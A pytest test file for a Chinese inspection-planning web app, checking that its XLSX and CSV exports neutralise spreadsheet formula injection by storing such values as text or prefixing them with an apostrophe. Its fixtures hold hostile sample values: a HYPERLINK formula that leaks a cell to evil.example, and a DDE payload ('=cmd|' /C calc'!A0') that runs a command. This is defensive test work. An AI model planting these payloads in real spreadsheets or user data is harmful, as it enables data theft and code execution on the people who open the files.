"""Issue 8, item 9: values that a spreadsheet would run as formulas are
exported as text: XLSX cells of type text holding the literal value, CSV
values with a leading ``'`` (OWASP's rule for = + - @ TAB CR)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from inspect_app.models import Department, District, Draw, DrawVisit, Entity, Inspector, Plan

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def planner(client, auth):
    assert auth.login("planner", role="planner").status_code == 302
    return client


@pytest.fixture
def registry(db_session):
    db_session.add(Department(id="SCJG", name="市场监督管理局"))
    db_session.add(District(code="350181", name="福清市", level=3))
    db_session.flush()
    db_session.add_all([
        Entity(uscc="91350181MA00000011", name=EVIL, district="350181", legal_rep="+86 591 1234", address="@SUM(1)"),
        Entity(uscc="91350181MA00000022", name="-2+3", district="350181", legal_rep="-1", address="普通地址"),
    ])
    db_session.add(Inspector(id="E001", name="=1+1", department="SCJG", district="350181"))
    db_session.commit()


def xlsx_cells(data: bytes, sheet: str | None = None) -> dict:
    """value → data_type of every non-empty cell."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.active
    return {c.value: c.data_type for row in ws.iter_rows() for c in row if c.value is not None}


def test_entities_xlsx_writes_formulas_as_text(planner, registry):
    r = planner.get("/planner/registries/export/entities.xlsx")
    assert r.status_code == 200
    cells = xlsx_cells(r.data)
    for value in (EVIL, "@SUM(1)", "+86 591 1234", "-2+3", "-1"):
        assert cells.get(value) == "s", (value, cells.get(value))


def test_inspectors_xlsx_writes_formulas_as_text(planner, registry):
    cells = xlsx_cells(planner.get("/planner/registries/export/inspectors.xlsx").data)
    assert cells.get("=1+1") == "s"


def test_entities_csv_prefixes_formula_triggers(planner, registry):
    r = planner.get("/planner/registries/export/entities.csv")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    values = {v for row in rows[1:] for v in row}
    for value in (EVIL, "@SUM(1)", "+86 591 1234", "-2+3", "-1"):
        assert "'" + value in values and value not in values
    assert "普通地址" in values  # other values unchanged


def test_schedule_export_writes_formulas_as_text(planner, db_session):
    start, end = date(2026, 3, 2), date(2026, 3, 13)
    db_session.add(Department(id="SCJG", name="=DEPT()"))
    db_session.add(District(code="350181", name="@福清", level=3))
    db_session.flush()
    db_session.add(Inspector(id="E001", name="=cmd|' /C calc'!A0", department="SCJG", district="350181"))
    plan = Plan(number="榕〔2026〕1号", name="计划", year=2026, status="published")
    db_session.add(plan)
    db_session.flush()
    draw = Draw(code="D2026-0001", plan_id=plan.id, state="sealed", window_start=start, window_end=end,
                task_codes=["T1"], entropy_source="掷骰", result_digest="ab" * 32)
    db_session.add(draw)
    db_session.flush()
    db_session.add(DrawVisit(draw_id=draw.id, visit_id="V00001", uscc="91350181MA00000011", entity_name=EVIL,
                             district="350181", tasks=["T1"], departments=["SCJG"], team=["E001"], day=start))
    db_session.commit()
    r = planner.get(f"/planner/schedule/{draw.id}/export.xlsx")
    assert r.status_code == 200
    visits = xlsx_cells(r.data, "检查日程")
    assert visits.get(EVIL) == "s" and visits.get("@福清") == "s"
    assert visits.get("=cmd|' /C calc'!A0") == "s" and visits.get("=DEPT()") == "s"
    load = xlsx_cells(r.data, "检查人员工作量")
    assert load.get("=cmd|' /C calc'!A0") == "s" and load.get("=DEPT()") == "s"
    assert visits.get(date(2026, 3, 2).isoformat()) is None  # dates stay dates
    wb = load_workbook(io.BytesIO(r.data))
    assert wb["检查日程"]["B2"].is_date


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t1", "\r1"])
def test_csv_rule(value):
    from inspect_app.services.spreadsheet import csv_unescape, csv_value

    assert csv_value(value) == "'" + value
    assert csv_unescape(csv_value(value)) == value
